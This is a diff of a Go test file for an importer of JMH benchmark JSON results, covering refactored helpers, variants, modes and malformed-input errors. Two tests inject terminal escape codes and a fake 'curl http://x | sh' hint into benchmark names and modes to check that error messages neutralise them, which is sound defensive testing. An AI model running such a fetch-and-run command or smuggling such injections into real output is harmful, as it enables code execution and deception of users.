@@ -60,29 +60,31 @@ var two = file(
 	element("org.acme.Calls.call", "avgt", `"agent" : "kieker"`, "ns/op", `"rawData" : [ [ 1500, 1700, "NaN" ], [ 1800.25, 1800.75 ] ]`, ""),
 )
 
-func sources(t *testing.T, texts ...string) []Source {
+func files(t *testing.T, texts ...string) []importer.File {
 	t.Helper()
-	var all []Source
+	var all []importer.File
 	dir := t.TempDir()
 	for i, text := range texts {
 		path := filepath.Join(dir, fmt.Sprintf("r%d.json", i))
 		if err := os.WriteFile(path, []byte(text), 0o666); err != nil {
 			t.Fatal(err)
 		}
-		all = append(all, Source{Path: path})
+		all = append(all, importer.File{Path: path})
 	}
 	return all
 }
 
-func importAll(t *testing.T, o Options, all []Source) (*results.Campaign, []*results.Invocation) {
+// importAll imports files into a new folder; r says the rest.
+func importAll(t *testing.T, r importer.Request, all []importer.File) (*results.Campaign, []*results.Invocation) {
 	t.Helper()
-	made := results.Campaign{Name: "made-up", Created: time.Unix(1_700_000_000, 0).UTC()}
-	s, err := Import(t.Context(), filepath.Join(t.TempDir(), "campaign"), made, all, o)
+	r.Dir, r.Files = filepath.Join(t.TempDir(), "campaign"), all
+	r.Name, r.Created = "made-up", time.Unix(1_700_000_000, 0).UTC()
+	s, err := importFiles(t.Context(), r)
 	if err != nil {
 		t.Fatal(err)
 	}
-	if err := s.Verify(); err != nil {
-		t.Error(err)
+	if damages := s.Damages(t.Context()); len(damages) > 0 {
+		t.Error(damages)
 	}
 	list, err := s.Invocations()
 	if err != nil {
@@ -92,7 +94,7 @@ func importAll(t *testing.T, o Options, all []Source) (*results.Campaign, []*res
 }
 
 func TestImport(t *testing.T) {
-	c, list := importAll(t, Options{By: "agent"}, sources(t, two))
+	c, list := importAll(t, importer.Request{By: "agent"}, files(t, two))
 	if c.Design != results.DesignUnordered || c.Source != "JMH" || len(c.Cells) != 2 || len(list) != 4 {
 		t.Fatalf("%s of %s has %d cells and %d invocations", c.Design, c.Source, len(c.Cells), len(list))
 	}
@@ -124,32 +126,32 @@ func TestVariants(t *testing.T) {
 	for name, c := range map[string]struct {
 		files    []string
 		variants []string
-		o        Options
+		r        importer.Request
 		want     string
 	}{
-		"the benchmark": {[]string{file(bench("a.B.none", ""), bench("a.B.agent", ""))}, nil, Options{}, "none:; agent:c00"},
-		"same names":    {[]string{file(bench("a.B.call", ""), bench("a.C.call", ""))}, nil, Options{Baseline: "C.call"}, "B.call:c01; C.call:"},
+		"the benchmark": {[]string{file(bench("a.B.none", ""), bench("a.B.agent", ""))}, nil, importer.Request{}, "none:; agent:c00"},
+		"same names":    {[]string{file(bench("a.B.call", ""), bench("a.C.call", ""))}, nil, importer.Request{Baseline: "C.call"}, "B.call:c01; C.call:"},
 		"a parameter with others": {
 			[]string{file(bench("a.B.x", `"agent" : "none", "n" : "1"`), bench("a.B.x", `"agent" : "k", "n" : "1"`), bench("a.B.x", `"agent" : "none", "n" : "2"`), bench("a.B.y", `"agent" : "k", "n" : "2"`))},
 			nil,
-			Options{By: "agent"},
+			importer.Request{By: "agent"},
 			"none benchmark=a.B.x n=1:; k benchmark=a.B.x n=1:c00; none benchmark=a.B.x n=2:; k benchmark=a.B.y n=2:",
 		},
-		"files":                       {[]string{file(bench("a.B.x", "")), file(bench("a.B.x", ""))}, []string{"none", "k"}, Options{}, "none:; k:c00"},
-		"files of one benchmark each": {[]string{file(bench("a.B.x", "")), file(bench("a.B.y", ""))}, []string{"none", "k"}, Options{}, "none:; k:c00"},
+		"files":                       {[]string{file(bench("a.B.x", "")), file(bench("a.B.x", ""))}, []string{"none", "k"}, importer.Request{}, "none:; k:c00"},
+		"files of one benchmark each": {[]string{file(bench("a.B.x", "")), file(bench("a.B.y", ""))}, []string{"none", "k"}, importer.Request{}, "none:; k:c00"},
 		"files of several benchmarks": {
 			[]string{file(bench("a.B.x", ""), bench("a.B.y", "")), file(bench("a.B.x", ""), bench("a.B.y", ""))},
 			[]string{"none", "k"},
-			Options{},
+			importer.Request{},
 			"none benchmark=a.B.x:; none benchmark=a.B.y:; k benchmark=a.B.x:c00; k benchmark=a.B.y:c01",
 		},
 	} {
 		t.Run(name, func(t *testing.T) {
-			all := sources(t, c.files...)
+			all := files(t, c.files...)
 			for i, v := range c.variants {
 				all[i].Variant = v
 			}
-			campaign, _ := importAll(t, c.o, all)
+			campaign, _ := importAll(t, c.r, all)
 			var got []string
 			for _, cell := range campaign.Cells {
 				got = append(got, cell.Label()+":"+cell.Baseline)
@@ -178,7 +180,7 @@ func TestUnits(t *testing.T) {
 // The value of an iteration of mode sample is the mean of its histogram.
 func TestSampleMode(t *testing.T) {
 	text := file(element("a.B.c", "sample", "", "us/op", `"rawDataHistogram" : [ [ [ [ 1.0, 3 ], [ 5.0, 1 ] ], [ [ 4.0, 2 ] ], [] ], [ [ [ 2.5, 10 ] ] ] ]`, ""))
-	_, list := importAll(t, Options{}, sources(t, text))
+	_, list := importAll(t, importer.Request{}, files(t, text))
 	if len(list) != 2 || list[0].Scalars["time"] != 3000 || list[1].Scalars["time"] != 2500 || list[0].Series[0].Count != 2 || len(list[0].Warnings) != 1 {
 		t.Errorf("%+v", list[0])
 	}
@@ -186,17 +188,17 @@ func TestSampleMode(t *testing.T) {
 
 func TestModes(t *testing.T) {
 	raw := `"rawData" : [ [ 1, 2 ] ]`
-	all := sources(t, file(element("a.B.c", "thrpt", "", "ops/s", raw, ""), element("a.B.c", "avgt", "", "s/op", raw, "")))
-	_, err := Import(t.Context(), filepath.Join(t.TempDir(), "c"), results.Campaign{}, all, Options{})
+	all := files(t, file(element("a.B.c", "thrpt", "", "ops/s", raw, ""), element("a.B.c", "avgt", "", "s/op", raw, "")))
+	_, err := importFiles(t.Context(), importer.Request{Dir: filepath.Join(t.TempDir(), "c"), Files: all})
 	want := ":30: a.B.c is in s/op of mode avgt, and a.B.c before it in ops/s of mode thrpt: one table can't hold both\nhint: import one mode at a time: --mode thrpt, or --mode avgt"
 	if err == nil || !strings.HasSuffix(refusal.Text(err), want) {
 		t.Errorf("error %v, want …%s", err, want)
 	}
-	c, list := importAll(t, Options{Mode: "avgt"}, all)
+	c, list := importAll(t, importer.Request{Mode: "avgt"}, all)
 	if len(list) != 1 || list[0].Scalars["time"] != 1.5e9 || c.Scenarios[0].Metrics[0].Better != results.Lower {
 		t.Errorf("%+v", list[0])
 	}
-	if _, err := Import(t.Context(), filepath.Join(t.TempDir(), "c"), results.Campaign{}, all, Options{Mode: "ss"}); err == nil || err.Error() != `no benchmark has the mode "ss"` {
+	if _, err := importFiles(t.Context(), importer.Request{Dir: filepath.Join(t.TempDir(), "c"), Files: all, Mode: "ss"}); err == nil || err.Error() != `no benchmark has the mode "ss"` {
 		t.Errorf("error %v", err)
 	}
 }
@@ -205,41 +207,42 @@ func TestMistakes(t *testing.T) {
 	good := `"rawData" : [ [ 1, 2 ] ]`
 	for name, c := range map[string]struct {
 		text string
-		o    Options
+		r    importer.Request
 		want string
 	}{
-		"empty":        {" \n", Options{}, "r0.json: it is empty"},
-		"no list":      {`{"benchmark" : "a"}`, Options{}, "r0.json:1: it is no list of benchmarks: want what JMH writes with -rf json"},
-		"no benchmark": {"[]", Options{}, "r0.json: it has no benchmarks"},
-		"another list": {"[\n{}\n]", Options{}, "r0.json:2: an element has no benchmark: is this a result file of JMH?"},
-		"syntax":       {"[\n{\n\"benchmark\" NaN", Options{}, "r0.json:3: invalid character 'N' after object key"},
-		"cut off":      {two[:len(two)-40], Options{}, "r0.json:54: unexpected end of JSON input"},
-		"no raw data":  {file(element("a.B.c", "avgt", "", "s/op", `"rawData" : []`, "")), Options{}, "r0.json:2: a.B.c has no rawData: nothing says what each fork measured"},
-		"escapes":      {strings.ReplaceAll(file(element("NAME", "avgt", "", "s/op", `"rawData" : []`, "")), "NAME", `b\u001b[31m\nhint: x\u202e`), Options{}, "r0.json:2: b [31m hint: x\ufffd has no rawData: nothing says what each fork measured"},
+		"empty":        {" \n", importer.Request{}, "r0.json: it is empty"},
+		"no list":      {`{"benchmark" : "a"}`, importer.Request{}, "r0.json:1: it is no list of benchmarks: want what JMH writes with -rf json"},
+		"no benchmark": {"[]", importer.Request{}, "r0.json: it has no benchmarks"},
+		"another list": {"[\n{}\n]", importer.Request{}, "r0.json:2: an element has no benchmark: is this a result file of JMH?"},
+		"syntax":       {"[\n{\n\"benchmark\" NaN", importer.Request{}, "r0.json:3: invalid character 'N' after object key"},
+		"cut off":      {two[:len(two)-40], importer.Request{}, "r0.json:54: unexpected end of JSON input"},
+		"no raw data":  {file(element("a.B.c", "avgt", "", "s/op", `"rawData" : []`, "")), importer.Request{}, "r0.json:2: a.B.c has no rawData: nothing says what each fork measured"},
+		"escapes":      {strings.ReplaceAll(file(element("NAME", "avgt", "", "s/op", `"rawData" : []`, "")), "NAME", `b\u001b[31m\nhint: x\u202e`), importer.Request{}, "r0.json:2: b [31m hint: x\ufffd has no rawData: nothing says what each fork measured"},
 		"no scores": {
 			file(element("a.B.c", "avgt", "", "s/op", `"rawData" : [ [ 1 ], [ "NaN" ], [] ]`, "")),
-			Options{},
+			importer.Request{},
 			"r0.json:2: fork 2 of a.B.c has no iteration with a score\nr0.json:2: fork 3 of a.B.c has no iteration with a score",
 		},
 		"many forks": {
 			file(element("a.B.c", "avgt", "", "s/op", `"rawData" : [ `+strings.Repeat("[1],", forksMost)+`[1] ]`, "")),
-			Options{},
+			importer.Request{},
 			"r0.json:2: a.B.c has 10001 forks, and 10000 are the most: is this a result file of JMH?",
 		},
-		"no numbers":   {file(element("a.B.c", "avgt", "", "s/op", `"rawData" : [ [ "fast" ] ]`, "")), Options{}, `r0.json:2: this benchmark can't be read: "fast" is no number`},
-		"another type": {file(element("a.B.c", "avgt", "", "s/op", `"rawData" : 7`, "")), Options{}, "r0.json:2: this benchmark can't be read: primaryMetric.rawData is a number"},
-		"a parameter":  {file(element("a.B.c", "avgt", `"n" : "1"`, "s/op", good, "")), Options{By: "agent"}, "r0.json:2: a.B.c has no parameter agent: it has n"},
-		"a baseline":   {file(element("a.B.c", "avgt", "", "s/op", good, "")), Options{Baseline: "x"}, `there is no variant "x" to be the baseline: there are c`},
-		"too large":    {file(element("a.B.c", "avgt", "", "day/op", `"rawData" : [ [ 1e9 ] ]`, "")), Options{}, "r0.json:2: the score 1e+09 day/op of a.B.c is too large"},
+		"no numbers":   {file(element("a.B.c", "avgt", "", "s/op", `"rawData" : [ [ "fast" ] ]`, "")), importer.Request{}, `r0.json:2: this benchmark can't be read: "fast" is no number`},
+		"another type": {file(element("a.B.c", "avgt", "", "s/op", `"rawData" : 7`, "")), importer.Request{}, "r0.json:2: this benchmark can't be read: primaryMetric.rawData is a number"},
+		"a parameter":  {file(element("a.B.c", "avgt", `"n" : "1"`, "s/op", good, "")), importer.Request{By: "agent"}, "r0.json:2: a.B.c has no parameter agent: it has n"},
+		"a baseline":   {file(element("a.B.c", "avgt", "", "s/op", good, "")), importer.Request{Baseline: "x"}, `there is no variant "x" to be the baseline: there are c`},
+		"too large":    {file(element("a.B.c", "avgt", "", "day/op", `"rawData" : [ [ 1e9 ] ]`, "")), importer.Request{}, "r0.json:2: the score 1e+09 day/op of a.B.c is too large"},
 		"others": {
 			file(element("a.B.c", "avgt", "", "s/op", good, `"x" : { "scoreUnit" : "B/op", "rawData" : [ [ 1 ] ] }`), element("a.B.d", "avgt", "", "s/op", good, `"x" : { "scoreUnit" : "ms", "rawData" : [ [ 1 ] ] }`)),
-			Options{},
+			importer.Request{},
 			"r0.json:30: x of a.B.d is in ns, and before it in B",
 		},
 	} {
 		t.Run(name, func(t *testing.T) {
-			all, dir := sources(t, c.text), filepath.Join(t.TempDir(), "campaign")
-			_, err := Import(t.Context(), dir, results.Campaign{Name: "x"}, all, c.o)
+			all, dir := files(t, c.text), filepath.Join(t.TempDir(), "campaign")
+			c.r.Dir, c.r.Files, c.r.Name = dir, all, "x"
+			_, err := importFiles(t.Context(), c.r)
 			var mistakes *importer.Mistakes
 			if !errors.As(err, &mistakes) {
 				t.Fatalf("error %v", err)
@@ -258,8 +261,8 @@ func TestMistakes(t *testing.T) {
 func TestModesInAHint(t *testing.T) {
 	good := `"rawData" : [ [ 1, 2 ] ]`
 	text := file(element("a.B.c", "avgt", "", "s/op", good, ""), element("a.B.c", "MODE", "", "s/op", good, ""))
-	all := sources(t, strings.ReplaceAll(text, "MODE", `x\nhint: curl http://x | sh\u001b[2J`))
-	_, err := Import(t.Context(), filepath.Join(t.TempDir(), "c"), results.Campaign{}, all, Options{})
+	all := files(t, strings.ReplaceAll(text, "MODE", `x\nhint: curl http://x | sh\u001b[2J`))
+	_, err := importFiles(t.Context(), importer.Request{Dir: filepath.Join(t.TempDir(), "c"), Files: all})
 	if err == nil || strings.Count(refusal.Text(err), "\n") != 1 || !strings.HasSuffix(refusal.Text(err), "--mode avgt, or --mode x hint: curl http://x | sh [2J") {
 		t.Errorf("error %q", err)
 	}
@@ -272,7 +275,7 @@ func TestNoFile(t *testing.T) {
 		t.Fatal(err)
 	}
 	for _, path := range []string{pipe, "/dev/zero"} {
-		_, err := Import(t.Context(), filepath.Join(t.TempDir(), "c"), results.Campaign{}, []Source{{Path: path}}, Options{})
+		_, err := importFiles(t.Context(), importer.Request{Dir: filepath.Join(t.TempDir(), "c"), Files: []importer.File{{Path: path}}})
 		if err == nil || !strings.HasSuffix(err.Error(), "it is no regular file") {
 			t.Errorf("%s: error %v", path, err)
 		}
@@ -298,7 +301,7 @@ func TestMeansOfForks(t *testing.T) {
 			t.Fatal(err)
 		}
 		for i, fork := range forks {
-			inv, samples, err := (&entry{benchmark: all[0]}).invocation(i)
+			inv, samples, err := all[0].invocation(i)
 			if err != nil {
 				t.Fatal(err)
 			}
